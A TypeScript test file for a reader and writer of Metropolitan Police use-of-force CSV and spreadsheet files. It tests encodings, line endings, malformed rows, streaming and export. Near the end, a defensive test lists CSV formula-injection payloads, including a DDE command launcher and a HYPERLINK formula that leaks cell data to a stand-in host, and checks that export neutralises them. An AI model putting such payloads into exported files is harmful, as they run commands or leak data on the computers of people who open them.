import { readFileSync } from 'node:fs';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { describe, expect, it } from 'vitest';
import { MET_COLUMNS, type MetColumn } from '../../../src/domain/met/layout.js';
import { metCellText, openMetCsv, openMetSheet, type MetByteSource, type MetRow, type MetSheetRow } from '../../../src/domain/met/read.js';
import { reportToMetRow, type ImportedReport } from '../../../src/domain/met/rows.js';
import { writeMetCsv } from '../../../src/domain/met/write.js';

const SAMPLE = readFileSync(new URL('../../fixtures/met/met-use-of-force-sample.csv', import.meta.url));
const fixture = (name: string) => readFileSync(new URL(`../../fixtures/met/${name}`, import.meta.url));
const records = parse(SAMPLE, { bom: true }) as string[][];
const HEADER = records[0]!;
const ROWS = records.slice(1);
const at = (c: MetColumn) => MET_COLUMNS.indexOf(c);

const utf8 = (text: string) => new Uint8Array(Buffer.from(text, 'utf8'));
const BOM = [0xef, 0xbb, 0xbf];
/** CSV text of the header and rows, with the given line ending (csv-stringify, not the code under test). */
const csv = (rows: string[][], eol = '\r\n') => stringify(rows, { record_delimiter: eol === '\n' ? 'unix' : 'windows', quoted_match: /[\r\n]/ });
const withValue = (row: string[], column: MetColumn, value: string) => row.map((v, i) => (i === at(column) ? value : v));
const accepted = (rows: MetRow[]) => rows.filter((r): r is Extract<MetRow, { ok: true }> => r.ok);

/** Bytes in memory as the import gives them to openMetCsv: a source of one piece. */
const whole =
  (bytes: Uint8Array): MetByteSource =>
  () =>
    (async function* () {
      yield bytes;
    })();

/** Reads every row of a sheet through openMetSheet, numbering the rows 1, 2, 3… as a reader that passes empty rows does. */
async function readSheet(cells: Iterable<readonly unknown[]>) {
  let number = 0;
  const file = await openMetSheet(
    (async function* () {
      for (const row of cells) yield { number: ++number, cells: row };
    })(),
  );
  const rows: MetRow[] = [];
  for await (const row of file.rows) rows.push(row);
  return { problem: file.problem, rows };
}

/**
 * Reads a whole file through openMetCsv, the reader the import uses: every row (`all`), the
 * accepted ones (`rows`), every problem of the rejected ones (`errors`) and the counts.
 */
async function readMetFile(bytes: Uint8Array) {
  const file = await openMetCsv(whole(bytes));
  const all: MetRow[] = [];
  for await (const row of file.rows) all.push(row);
  const rows = accepted(all).map((r) => ({ line: r.line, report: r.report }));
  const errors = all.flatMap((r) => (r.ok ? [] : r.errors));
  return { encoding: file.encoding, problem: file.problem, header: file.header, all, rows, errors, read: all.length, accepted: rows.length, rejected: all.length - rows.length };
}

const report = async (bytes: Uint8Array, line: number): Promise<ImportedReport> => {
  const found = (await readMetFile(bytes)).rows.find((r) => r.line === line);
  if (!found) throw new Error(`No report read on line ${line}`);
  return found.report;
};

const sampleFile = await readMetFile(SAMPLE);

describe('the published sample', () => {
  const file = sampleFile;

  it('reads every row without rejection', () => {
    expect(file.problem).toBeNull();
    expect(file.encoding).toBe('utf-8');
    expect(file.errors).toEqual([]);
    expect({ read: file.read, accepted: file.accepted, rejected: file.rejected }).toEqual({ read: 30, accepted: 30, rejected: 0 });
    expect(file.rows.map((r) => r.line)).toEqual(Array.from({ length: 30 }, (_, i) => i + 2));
  });

  it.each(ROWS.map((row, i) => ({ line: i + 2, row })))('gives back line $line value for value', ({ line, row }) => {
    const read = file.rows.find((r) => r.line === line)!;
    expect(reportToMetRow(read.report.content)).toEqual(row);
  });

  it('is written back byte for byte', () => {
    expect(writeMetCsv(file.rows.map((r) => reportToMetRow(r.report.content)))).toBe(SAMPLE.toString('utf8'));
  });

  it('counts the Taser uses at their highest level', () => {
    const levels = file.rows.map((r) => r.report.highestLevel).filter((l) => l !== null);
    expect(levels.sort()).toEqual(['fired', 'red_dotted', 'red_dotted', 'red_dotted']);
  });

  it('keeps the free text as written, accents and dashes included', () => {
    const natures = new Set(file.rows.map((r) => r.report.content.injuries.subjectInjuryNature));
    expect(natures).toContain('Probe wound – café floor fall');
    expect(natures).toContain('Minor – bruising');
  });
});

describe('encodings', () => {
  const text = csv([HEADER, withValue(ROWS[0]!, 'SubjectNatureOfInjury', 'Zoë, at the café')]);
  it.each<{ name: string; bytes: Uint8Array; encoding: string }>([
    { name: 'UTF-8 with a byte order mark', bytes: new Uint8Array([...BOM, ...utf8(text)]), encoding: 'utf-8' },
    { name: 'UTF-8 without a byte order mark', bytes: utf8(text), encoding: 'utf-8' },
    { name: 'Windows-1252', bytes: new Uint8Array(Buffer.from(text, 'latin1')), encoding: 'windows-1252' },
    { name: 'Windows-1252 with a UTF-8 byte order mark left on', bytes: new Uint8Array([...BOM, ...Buffer.from(text, 'latin1')]), encoding: 'windows-1252' },
  ])('reads $name', async ({ bytes, encoding }) => {
    const file = await readMetFile(bytes);
    expect(file.problem).toBeNull();
    expect(file.encoding).toBe(encoding);
    expect(file.errors).toEqual([]);
    expect(file.rows.map((r) => [r.line, r.report.content.injuries.subjectInjuryNature])).toEqual([[2, 'Zoë, at the café']]);
  });

  it('reads the Windows-1252 fixture: accents, an en dash (0x96), DD/MM/YYYY dates, HH:MM times, City of Westminster, a quoted comma', async () => {
    const bytes = fixture('windows-1252.csv');
    expect(bytes.includes(0x96)).toBe(true);
    const file = await readMetFile(bytes);
    expect(file.encoding).toBe('windows-1252');
    expect(file.errors).toEqual([]);
    expect(file.rows.map((r) => r.line)).toEqual([2, 3, 4]);
    const [first, second, third] = file.rows.map((r) => r.report.content);
    expect(first!.incident).toMatchObject({ date: '2020-04-11', time: '22:33', borough: 'Westminster' });
    expect(first!.injuries.subjectInjuryNature).toBe('Zoë slipped on the café floor – graze');
    expect(second!.incident).toMatchObject({ date: '2019-01-22', time: '08:55', borough: 'Barnet' });
    expect(second!.injuries.subjectInjuryNature).toBe('Bruised, minor');
    expect(file.rows[2]!.report.highestLevel).toBe('fired');
    expect(third!.ced?.applications[0]?.fired?.probeLocations).toEqual(['F15']);
  });

  it('writes the Windows-1252 fixture back as the sample rows it came from, normalised', async () => {
    const file = await readMetFile(fixture('windows-1252.csv'));
    const [first, second, third] = file.rows.map((r) => reportToMetRow(r.report.content));
    expect(first).toEqual(withValue(withValue(ROWS[0]!, 'Borough', 'Westminster'), 'SubjectNatureOfInjury', 'Zoë slipped on the café floor – graze'));
    expect(second).toEqual(withValue(ROWS[29]!, 'SubjectNatureOfInjury', 'Bruised, minor'));
    expect(third).toEqual(ROWS[28]);
  });

  it('refuses UTF-16, saying how to save the file', async () => {
    const bytes = new Uint8Array([0xff, 0xfe, ...Buffer.from(text, 'utf16le')]);
    const file = await readMetFile(bytes);
    expect(file.problem?.message).toMatch(/saved as UTF-16/);
    expect(file.read).toBe(0);
  });
});

describe('CSV forms and line numbers', () => {
  it.each<{ name: string; text: string; lines: number[] }>([
    { name: 'CRLF line endings', text: csv([HEADER, ROWS[0]!, ROWS[1]!], '\r\n'), lines: [2, 3] },
    { name: 'LF line endings', text: csv([HEADER, ROWS[0]!, ROWS[1]!], '\n'), lines: [2, 3] },
    { name: 'CR line endings (old Mac)', text: csv([HEADER, ROWS[0]!, ROWS[1]!], '\n').replace(/\n/g, '\r'), lines: [2, 3] },
    { name: 'mixed line endings', text: `${csv([HEADER], '\n')}${csv([ROWS[0]!], '\r\n')}${csv([ROWS[1]!], '\n')}`, lines: [2, 3] },
    { name: 'no line ending at the end', text: csv([HEADER, ROWS[0]!, ROWS[1]!]).replace(/\r\n$/, ''), lines: [2, 3] },
    { name: 'blank lines before the header, between rows and at the end', text: `\r\n\n${csv([HEADER, ROWS[0]!])}\r\n\r\n${csv([ROWS[1]!])}\n\n\r\n`, lines: [4, 7] },
    { name: 'a row of nothing but commas', text: `${csv([HEADER, ROWS[0]!])}${','.repeat(270)}\r\n${csv([ROWS[1]!])}`, lines: [2, 4] },
    {
      name: 'a quoted value over three lines',
      text: csv([HEADER, withValue(ROWS[0]!, 'SubjectNatureOfInjury', 'Graze,\r\nleft arm;\nright knee'), ROWS[1]!]),
      lines: [2, 5],
    },
    {
      name: 'a quote doubled inside a quoted value, and a stray quote in an unquoted one',
      text: csv([HEADER, withValue(ROWS[0]!, 'SubjectNatureOfInjury', 'said "ouch", twice')]) + csv([withValue(ROWS[1]!, 'CED Device Serial No', 'X1"2')]).replace('"X1""2"', 'X1"2'),
      lines: [2, 3],
    },
    {
      name: 'trailing commas on every row (empty columns with no name)',
      text: csv([
        [...HEADER, ''],
        [...ROWS[0]!, ''],
        [...ROWS[1]!, '', ''],
      ]),
      lines: [2, 3],
    },
  ])('reads $name', async ({ text, lines }) => {
    const file = await readMetFile(utf8(text));
    expect(file.problem).toBeNull();
    expect(file.errors).toEqual([]);
    expect(file.rows.map((r) => r.line)).toEqual(lines);
  });

  it('keeps quoted commas, quotes and line breaks in a value', async () => {
    const text = csv([HEADER, withValue(ROWS[0]!, 'SubjectNatureOfInjury', 'Graze, "minor",\r\nleft arm')]);
    expect((await report(utf8(text), 2)).content.injuries.subjectInjuryNature).toBe('Graze, "minor",\r\nleft arm');
    expect((await report(utf8(text.replace('X1"2', '')), 2)).content.injuries.subjectInjuryNature).toBe('Graze, "minor",\r\nleft arm');
  });

  it('keeps a stray quote in an unquoted value as text', async () => {
    const text = csv([HEADER]) + csv([ROWS[29]!]).replace('X24614360', 'X246"14360');
    expect((await report(utf8(text), 2)).content.ced?.deviceSerial).toBe('X246"14360');
  });

  it('maps columns by name when the file has them in another order and spells the slips correctly', async () => {
    const order = MET_COLUMNS.map((_, i) => i).reverse();
    const renamed = HEADER.map(
      (h) => ({ 'CED2 ArCED2': 'CED2 Arced', 'Tactic Effective 20': 'Effective 20', 'Impact Factor: Possesion of a weapon': 'Impact Factor: Possession of a weapon' })[h] ?? h,
    );
    const shuffled = [order.map((i) => renamed[i]!), ...ROWS.map((r) => order.map((i) => r[i]!))];
    const a = await readMetFile(SAMPLE);
    const b = await readMetFile(utf8(csv(shuffled)));
    expect(b.errors).toEqual([]);
    expect(b.rows).toEqual(a.rows);
  });

  it("names a column as the file spells it in a row's errors", async () => {
    const header = HEADER.map((h) => (h === 'CED2 ArCED2' ? 'CED2 Arced' : h));
    const file = await readMetFile(utf8(csv([header, withValue(ROWS[0]!, 'CED2 ArCED2', 'Maybe')])));
    expect(file.errors).toEqual([{ line: 2, column: 'CED2 Arced', message: expect.stringContaining('"Maybe" is not Yes or No') }]);
  });
});

describe('rows that cannot be read', () => {
  it('rejects exactly the bad rows of the fixture, with line and column, and reads the rest', async () => {
    const file = await readMetFile(fixture('bad-rows.csv'));
    expect(file.problem).toBeNull();
    expect(file.rows.map((r) => r.line)).toEqual([2, 5, 8, 11]);
    expect(file.rows[1]!.report.content.injuries.subjectInjuryNature).toBe('Cut to hand,\nsecond line of the note');
    expect(file.errors).toEqual([
      { line: 3, column: 'SingleCrewed', message: expect.stringContaining('"Maybe" is not Yes or No') },
      { line: 3, column: 'Tactic 2', message: expect.stringContaining('"Taser" is not a tactic') },
      { line: 4, column: 'IncidentDate', message: expect.stringContaining('"30/02/2019" is not a date') },
      { line: 4, column: 'IncidentTime', message: expect.stringContaining('"25:10" is not a time of day') },
      { line: 7, column: 'CED Fired Total Number Of Cycles', message: expect.stringContaining('"two" is not a number of cycles') },
      { line: 7, column: 'SubjectEthnicity', message: expect.stringContaining('"Martian" is not an ethnicity') },
      { line: 9, column: null, message: 'This row has 200 values but the header has 271 columns: check for a missing comma, or a value with a comma that is not in quotes' },
      { line: 10, column: null, message: 'A quote (") opened in this row is never closed: check the quotes in this row' },
    ]);
    expect({ read: file.read, accepted: file.accepted, rejected: file.rejected }).toEqual({ read: 9, accepted: 4, rejected: 5 });
  });

  it('gives the values of a rejected row, for a rejects file', async () => {
    const rejected = (await readMetFile(fixture('bad-rows.csv'))).all.filter((r) => !r.ok);
    expect(rejected.map((r) => [r.line, !r.ok && r.values.length])).toEqual([
      [3, 271],
      [4, 271],
      [7, 271],
      [9, 200],
      [10, 0],
    ]);
  });

  it('reads on after a quote that is never closed in the middle of the file', async () => {
    // (A later quoted value would close the stray quote, as in any CSV reader: the rows after it here have none.)
    const [first, second, third, fourth] = ROWS.filter((r) => !csv([r]).includes('"'));
    const broken = csv([second!]).replace(/,(Tactical Communications|Ground Restraint|Spit Guard|Baton Drawn|Compliant Handcuffing)/, ',"$1');
    expect(broken).toContain('"');
    const text = csv([HEADER, first!]) + broken + csv([third!, fourth!]);
    const file = await readMetFile(utf8(text));
    expect(file.errors).toEqual([{ line: 3, column: null, message: expect.stringContaining('never closed') }]);
    expect(file.rows.map((r) => r.line)).toEqual([2, 4, 5]);
  });

  it('rejects a value in a column with no name', async () => {
    const file = await readMetFile(
      utf8(
        csv([
          [...HEADER, ''],
          [...ROWS[0]!, 'stray'],
        ]),
      ),
    );
    expect(file.errors).toEqual([{ line: 2, column: null, message: 'Column 272 has a value but no name in the header row: name the column, or clear it' }]);
  });

  it('rejects a row with too many values', async () => {
    const file = await readMetFile(utf8(csv([HEADER, [...ROWS[0]!, 'extra']])));
    expect(file.errors).toEqual([{ line: 2, column: null, message: expect.stringContaining('272 values but the header has 271 columns') }]);
  });
});

describe('a file with the wrong layout', () => {
  it.each<{ name: string; bytes: Uint8Array; message: RegExp; missing?: string[] }>([
    { name: 'the officer roster', bytes: utf8('collar_number,first_name,last_name,rank,joined_on\r\n1,Asha,Patel,PC,2015-09-01\r\n'), message: /none of the 271 columns/, missing: [...MET_COLUMNS] },
    {
      name: 'a Met file without Borough and SubjectAge',
      bytes: utf8(csv(records.map((r) => r.filter((_, i) => i !== at('Borough') && i !== at('SubjectAge'))))),
      message: /2 columns are missing: "Borough", "SubjectAge"/,
      missing: ['Borough', 'SubjectAge'],
    },
    { name: 'a file separated by semicolons', bytes: utf8(`${HEADER.slice(0, 5).join(';')}\r\n`), message: /not separated by commas/ },
    { name: 'an empty file', bytes: new Uint8Array(), message: /The file is empty/ },
    { name: 'a file of blank lines and a byte order mark', bytes: new Uint8Array([...BOM, 13, 10, 10]), message: /The file is empty/ },
    { name: 'a header row that cannot be read', bytes: utf8('"IncidentDate,IncidentTime\r\n'), message: /The header row cannot be read \(line 1\)/ },
  ])('fails at once for $name, reading no row', async ({ bytes, message, missing }) => {
    const file = await readMetFile(bytes);
    expect(file.problem?.ok).toBe(false);
    expect(file.problem?.message).toMatch(message);
    if (missing) expect(file.problem?.missing).toEqual(missing);
    expect(file.all).toEqual([]);
    expect([file.read, file.rows.length, file.errors.length]).toEqual([0, 0, 0]);
  });
});

/**
 * Over 2.5 MiB: the reader takes it in 1 MiB chunks (cut at a line end). Every third row has a
 * quoted value over several lines, and a long one spans each 1 MiB mark, so the cuts fall
 * inside quoted values.
 */
function largeFile(): { bytes: Uint8Array; expected: { line: number; nature: string }[] } {
  let text = csv([HEADER]);
  const expected: { line: number; nature: string }[] = [];
  let line = 2;
  let nextMark = 2 ** 20 - 8_000;
  for (let i = 0; i < 5000; i++) {
    let breaks = i % 3 === 0 ? (i % 2) + 1 : 0;
    let nature = breaks ? `row ${i},${' é\r\n'.repeat(breaks)}end` : `row ${i}`;
    if (text.length > nextMark) {
      breaks = 4000;
      nature = `long ${i}:${'\nx'.repeat(breaks)}`;
      nextMark += 2 ** 20;
    }
    text += csv([withValue(ROWS[i % 30]!, 'SubjectNatureOfInjury', nature)]);
    expected.push({ line, nature });
    line += 1 + breaks;
  }
  const bytes = utf8(text);
  expect(bytes.length).toBeGreaterThan(2.5 * 2 ** 20);
  return { bytes, expected };
}

describe('large files', () => {
  it('reads rows across chunk boundaries, with quoted line breaks anywhere, and counts lines right', async () => {
    const { bytes, expected } = largeFile();
    const file = await readMetFile(bytes);
    const seen = file.rows.map((r) => ({ line: r.line, nature: r.report.content.injuries.subjectInjuryNature }));
    expect({ encoding: file.encoding, problem: file.problem, read: file.read, accepted: file.accepted, rejected: file.rejected }).toEqual({
      encoding: 'utf-8',
      problem: null,
      read: 5000,
      accepted: 5000,
      rejected: 0,
    });
    expect(seen).toEqual(expected);
  });

  it('hands rows over one at a time: a caller can stop, or pause between them', async () => {
    const file = await openMetCsv(whole(SAMPLE));
    const it = file.rows[Symbol.asyncIterator]();
    expect(((await it.next()).value as MetRow).line).toBe(2);
    expect(((await it.next()).value as MetRow).line).toBe(3);
    await file.close();
  });
});

/** A file read in pieces of `size` bytes, as a file stream gives it; records how much of each opening was read and whether it was let go. */
function inPieces(bytes: Uint8Array, size: number) {
  const openings: { given: number; closed: boolean }[] = [];
  const open: MetByteSource = () => {
    const opening = { given: 0, closed: false };
    openings.push(opening);
    return (async function* () {
      try {
        for (let at = 0; at < bytes.length; at += size) {
          const piece = bytes.slice(at, at + size);
          opening.given = at + piece.length;
          yield piece;
        }
      } finally {
        opening.closed = true;
      }
    })();
  };
  return { open, openings };
}

async function readStreamed(open: MetByteSource) {
  const file = await openMetCsv(open);
  const rows: MetRow[] = [];
  for await (const row of file.rows) rows.push(row);
  return { encoding: file.encoding, problem: file.problem, header: file.header, rows };
}

/** The file given whole, in one piece. */
const inMemory = (bytes: Uint8Array) => readStreamed(whole(bytes));

describe('reading a file a piece at a time (openMetCsv)', () => {
  const zoe = csv([HEADER, withValue(ROWS[0]!, 'SubjectNatureOfInjury', 'Zoë, at the café – twice')]);
  const files: { name: string; bytes: Uint8Array }[] = [
    { name: 'the sample', bytes: SAMPLE },
    { name: 'the Windows-1252 fixture', bytes: fixture('windows-1252.csv') },
    { name: 'the bad-rows fixture', bytes: fixture('bad-rows.csv') },
    { name: 'UTF-8 with a byte order mark', bytes: new Uint8Array([...BOM, ...utf8(zoe)]) },
    { name: 'Windows-1252 with a UTF-8 byte order mark left on', bytes: new Uint8Array([...BOM, ...Buffer.from(zoe, 'latin1')]) },
    { name: 'CR line endings and blank lines', bytes: utf8(`\r\r${csv([HEADER, ROWS[0]!, ROWS[1]!], '\n').replace(/\n/g, '\r')}\r\r`) },
  ];
  it.each(files.flatMap(({ name, bytes }) => [1, 3, 1000, bytes.length].map((size) => ({ name, size, bytes }))))(
    'reads $name in pieces of $size bytes as it reads it in memory',
    async ({ bytes, size }) => {
      const { open, openings } = inPieces(bytes, size);
      const streamed = await readStreamed(open);
      const expected = await inMemory(bytes);
      expect(expected.rows.length).toBeGreaterThan(0);
      expect(streamed).toEqual(expected);
      // Once to decide the encoding, once for the rows; both let go.
      expect(openings.map((o) => o.closed)).toEqual([true, true]);
    },
  );

  it.each([64 * 1024, 2 ** 20 + 7])('reads a large file in pieces of %i bytes, lines counted across every cut', async (size) => {
    const { bytes, expected } = largeFile();
    const file = await readStreamed(inPieces(bytes, size).open);
    expect(file.rows.every((r) => r.ok)).toBe(true);
    expect(accepted(file.rows).map((r) => ({ line: r.line, nature: r.report.content.injuries.subjectInjuryNature }))).toEqual(expected);
  });

  it('decides the encoding from the whole file: one Windows-1252 byte after 3 MiB of ASCII makes it Windows-1252', async () => {
    // eslint-disable-next-line no-control-regex -- ASCII is 0x00 to 0x7f
    const plain = ROWS.filter((r) => !/[^\x00-\x7f]/.test(r.join('')));
    const body: string[][] = [];
    for (let length = 0; length < 3 * 2 ** 20;) {
      const row = plain[body.length % plain.length]!;
      body.push(row);
      length += csv([row]).length;
    }
    const text = csv([HEADER, ...body, withValue(ROWS[0]!, 'SubjectNatureOfInjury', 'Zoë')]);
    const bytes = new Uint8Array(Buffer.from(text, 'latin1'));
    const file = await readStreamed(inPieces(bytes, 64 * 1024).open);
    expect(file.encoding).toBe('windows-1252');
    expect(file.rows).toHaveLength(body.length + 1);
    const last = file.rows.at(-1)!;
    expect(last.ok && last.report.content.injuries.subjectInjuryNature).toBe('Zoë');
  });

  it('reads rows as they are asked for, holding only a little of the file', async () => {
    const { bytes } = largeFile();
    const { open, openings } = inPieces(bytes, 64 * 1024);
    const file = await openMetCsv(open);
    const rows = file.rows[Symbol.asyncIterator]();
    expect(((await rows.next()).value as MetRow).line).toBe(2);
    expect(openings[0]).toEqual({ given: bytes.length, closed: true }); // read through for the encoding
    expect(openings[1]!.given).toBeLessThan(2.5 * 2 ** 20); // and again only as far as the first chunk needs
    expect(openings[1]!.given).toBeLessThan(bytes.length);
    await rows.return?.();
    expect(openings[1]!.closed).toBe(true);
  });

  it('lets go of the file when the rows are not read', async () => {
    const { open, openings } = inPieces(SAMPLE, 1000);
    const file = await openMetCsv(open);
    await file.close();
    expect(openings.map((o) => o.closed)).toEqual([true, true]);
  });

  it.each<{ name: string; bytes: Uint8Array; message: RegExp; opened: number }>([
    { name: 'UTF-16', bytes: new Uint8Array([0xff, 0xfe, ...Buffer.from(zoe, 'utf16le')]), message: /saved as UTF-16/, opened: 1 },
    { name: 'an empty file', bytes: new Uint8Array(), message: /The file is empty/, opened: 2 },
    { name: 'a byte order mark and nothing else', bytes: new Uint8Array(BOM), message: /The file is empty/, opened: 2 },
    { name: 'the officer roster', bytes: utf8('collar_number,first_name,last_name,rank,joined_on\r\n1,Asha,Patel,PC,2015-09-01\r\n'), message: /none of the 271 columns/, opened: 2 },
  ])('refuses $name at once, reading no row and letting go of the file', async ({ bytes, message, opened }) => {
    const { open, openings } = inPieces(bytes, 2);
    const file = await readStreamed(open);
    expect(file.problem?.message).toMatch(message);
    expect(file.rows).toEqual([]);
    expect(file.problem).toEqual((await inMemory(bytes)).problem);
    expect(openings).toHaveLength(opened);
    expect(openings.every((o) => o.closed)).toBe(true);
  });
});

describe('spreadsheet rows (from an .xlsx reader)', () => {
  it('reads cells as the CSV text the Met would have written', async () => {
    const row = ROWS[28]!.map((v, i): unknown => {
      if (i === at('IncidentDate')) return new Date(Date.UTC(2019, 3, 8));
      if (i === at('IncidentTime')) return 0.25; // 06:00 as a fraction of a day
      if (i === at('CED Fired Total Number Of Cycles')) return 2;
      if (i === at('SingleCrewed')) return false;
      return v === '' ? null : v;
    });
    const serialDate = ROWS[29]!.map((v, i): unknown => (i === at('IncidentDate') ? 43487 : i === at('IncidentTime') ? new Date(Date.UTC(1899, 11, 30, 8, 55, 0)) : v));
    // A reader leaves out trailing empty cells: the last row stops at its last value.
    const short = serialDate.slice(0, at('Outcome: Fatality') + 1);
    const file = await readSheet([[], HEADER, row, [null, undefined], short]);
    expect(file.problem).toBeNull();
    const rows = file.rows;
    expect(rows.filter((r) => !r.ok)).toEqual([]);
    expect(accepted(rows).map((r) => r.line)).toEqual([3, 5]);
    const [fired, other] = accepted(rows).map((r) => r.report);
    expect(fired!.content.incident).toMatchObject({ date: '2019-04-08', time: '06:00' });
    expect(fired!.content.duty.singleCrewed).toBe(false);
    expect(fired!.content.ced?.applications[0]?.fired?.totalCycles).toBe(2);
    expect(fired!.highestLevel).toBe('fired');
    expect(other!.content.incident).toMatchObject({ date: '2019-01-22', time: '08:55' });
  });

  it('refuses a sheet with the wrong header', async () => {
    expect((await readSheet([['Name', 'Date']])).problem?.message).toMatch(/none of the 271 columns/);
  });

  it('rejects a value right of the table, naming its column (there are no commas to blame in a sheet)', async () => {
    const { rows } = await readSheet([HEADER, [...ROWS[0]!, null, 'stray'], [...ROWS[1]!, '', null]]);
    expect(rows.map((r) => (r.ok ? r.line : r.errors))).toEqual([
      [{ line: 2, column: null, message: "Column 273 has a value but is right of the header's 271 columns: clear it, or name the column in the header row" }],
      3,
    ]);
  });

  it('reads rows as a streaming reader gives them, numbered by the sheet (empty rows left out)', async () => {
    const endsBlank = ROWS[29]!.map((v, i) => (i >= MET_COLUMNS.length - 5 ? '' : v));
    const sheet: MetSheetRow[] = [
      { number: 2, cells: HEADER },
      { number: 3, cells: ROWS[0]!.map((v, i) => (i === at('IncidentDate') ? new Date(Date.UTC(2020, 3, 11)) : v)) },
      { number: 7, cells: withValue(ROWS[1]!, 'SingleCrewed', 'Maybe') },
      { number: 8, cells: endsBlank.slice(0, -5) }, // trailing empty cells left out
    ];
    const file = await openMetSheet(
      (async function* () {
        yield* sheet;
      })(),
    );
    expect(file.problem).toBeNull();
    const rows: MetRow[] = [];
    for await (const row of file.rows) rows.push(row);
    expect(rows.map((r) => [r.line, r.ok])).toEqual([
      [3, true],
      [7, false],
      [8, true],
    ]);
    expect(rows[1]).toMatchObject({ ok: false, errors: [{ line: 7, column: 'SingleCrewed' }] });
    expect(accepted(rows).map((r) => reportToMetRow(r.report.content))).toEqual([ROWS[0], endsBlank]);
  });

  it('refuses a streamed sheet with the wrong header, and stops reading it', async () => {
    let closed = false;
    const sheet = (async function* (): AsyncGenerator<MetSheetRow> {
      try {
        yield { number: 1, cells: ['collar_number', 'first_name'] };
        yield { number: 2, cells: ['101LX', 'Asha'] };
      } finally {
        closed = true;
      }
    })();
    const file = await openMetSheet(sheet);
    expect(file.problem?.message).toMatch(/none of the 271 columns/);
    expect(closed).toBe(true);
  });

  it.each<[unknown, MetColumn | null, string]>([
    [null, null, ''],
    [undefined, 'Borough', ''],
    ['Lambeth', 'Borough', 'Lambeth'],
    [true, 'SingleCrewed', 'Yes'],
    [false, 'SingleCrewed', 'No'],
    [3, 'CED Fired Total Number Of Cycles', '3'],
    [43563, 'IncidentDate', '2019-04-08'],
    [new Date(Date.UTC(2019, 3, 8, 0, 0)), 'IncidentDate', '2019-04-08'],
    [43563.9375, 'IncidentDate', '2019-04-08'],
    [new Date(Date.UTC(2019, 3, 8, 22, 30)), 'IncidentDate', '2019-04-08'],
    [0.9375, 'IncidentTime', '22:30'],
    [0.999999, 'IncidentTime', '00:00'],
    [43563.9375, 'IncidentTime', '22:30'],
    [new Date(Date.UTC(1899, 11, 30, 22, 15, 30)), 'IncidentTime', '22:15:30'],
    [new Date(Date.UTC(1899, 11, 30, 22, 32, 59, 999)), 'IncidentTime', '22:33'],
    [new Date(Date.UTC(2019, 3, 8, 6, 5)), 'IncidentTime', '06:05'],
    [new Date(Date.UTC(2019, 3, 8)), 'Borough', '2019-04-08'],
    [2.5, 'CED Fired Total Number Of Cycles', '2.5'],
  ])('reads the cell %s in %s as "%s"', (value, column, text) => {
    expect(metCellText(value, column)).toBe(text);
  });
});

describe('writing a file', () => {
  const specials = [withValue(ROWS[0]!, 'SubjectNatureOfInjury', 'a, "b"\r\nc'), ROWS[1]!, withValue(ROWS[2]!, 'Borough', 'Kingston, upon Thames')];

  it('writes what csv-stringify writes, quoting only what needs it', () => {
    const options = { quoted_match: /[\r\n]/ };
    expect(writeMetCsv(specials)).toBe(stringify([[...MET_COLUMNS], ...specials], { ...options, record_delimiter: 'windows' }));
    expect(writeMetCsv(specials, { eol: 'lf' })).toBe(stringify([[...MET_COLUMNS], ...specials], { ...options, record_delimiter: 'unix' }));
    expect(writeMetCsv([ROWS[1]!])).toBe(`${SAMPLE.toString('utf8').split('\r\n')[0]}\r\n${ROWS[1]!.join(',')}\r\n`);
  });

  it.each([
    ['a lone LF in a CRLF file', 'crlf', 'first\nsecond'],
    ['a lone CR in a CRLF file', 'crlf', 'first\rsecond'],
    ['a CRLF in an LF file', 'lf', 'first\r\nsecond'],
  ] as const)('quotes %s', async (_, eol, value) => {
    const text = writeMetCsv([withValue(ROWS[0]!, 'SubjectNatureOfInjury', value)], { eol });
    expect(text).toContain(`,"${value}",`);
    expect((await readMetFile(utf8(text))).rows[0]?.report.content.injuries.subjectInjuryNature).toBe(value);
  });

  it('ends every line the same way', () => {
    const lf = writeMetCsv(specials, { eol: 'lf' });
    expect(lf.endsWith('\n')).toBe(true);
    expect(lf.replace(/"[^"]*(""[^"]*)*"/g, '').includes('\r')).toBe(false);
    const crlf = writeMetCsv(specials);
    expect(crlf.replace(/"[^"]*(""[^"]*)*"/g, '').split('\r\n')).toHaveLength(5);
  });

  it('writes a file in batches, the header once', () => {
    const whole = writeMetCsv(specials);
    expect(writeMetCsv(specials.slice(0, 1)) + writeMetCsv(specials.slice(1), { header: false })).toBe(whole);
  });

  it('reads back what it writes', async () => {
    const file = await readMetFile(utf8(writeMetCsv(specials)));
    expect(file.rows.map((r) => reportToMetRow(r.report.content))).toEqual(specials);
    expect(file.rows.map((r) => r.line)).toEqual([2, 4, 5]);
  });

  it('refuses a row that is not 271 values', () => {
    expect(() => writeMetCsv([['2019-04-08']])).toThrow(/Row 1 has 1 values; the Met layout has 271 columns/);
  });

  // Issue 10: imported `=cmd|' /C calc'!A0` and `=HYPERLINK(…)` came out of `export met-uof` verbatim.
  const FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?leak="&A1,"Click")', '+1+cmd|x', '-2+3', '@SUM(A1)', '\t=1', '\r=1'];

  it.each(FORMULAS)('writes %j with a quote before it, so no spreadsheet runs it', async (formula) => {
    const text = writeMetCsv([withValue(ROWS[0]!, 'SubjectNatureOfInjury', formula)]);
    const [, row] = parse(text, { relax_quotes: true }) as string[][];
    expect(row![at('SubjectNatureOfInjury')]).toBe(`'${formula}`);
    // Read back by Cedar, the cell is what was imported: the quote is only for spreadsheets.
    expect((await readMetFile(utf8(text))).rows[0]?.report.content.injuries.subjectInjuryNature).toBe(formula.trim());
  });

  it('neutralises every column, and leaves rows with no formula as they were', () => {
    const row = withValue(withValue(ROWS[0]!, 'Borough', '=1+1'), 'CED Device Serial No', '@x');
    const [, written] = parse(writeMetCsv([row, ROWS[1]!])) as string[][];
    expect(written![at('Borough')]).toBe("'=1+1");
    expect(written![at('CED Device Serial No')]).toBe("'@x");
    expect(writeMetCsv([ROWS[1]!])).toBe(`${SAMPLE.toString('utf8').split('\r\n')[0]}\r\n${ROWS[1]!.join(',')}\r\n`);
  });
});

describe('limits', () => {
  const TEN_MB = 10 * 1024 * 1024;
  const firedRow = ROWS.find((r) => r[at('CED Fired')] === 'Yes')!;

  it('rejects a 10 MB cartridge number by line and column, quoting 100 characters of it', async () => {
    const file = await readMetFile(utf8(csv([HEADER, withValue(firedRow, 'CED Fired Cartridge Number', '7'.repeat(TEN_MB)), ROWS[1]!])));
    expect(file.rows.map((r) => r.line)).toEqual([3]);
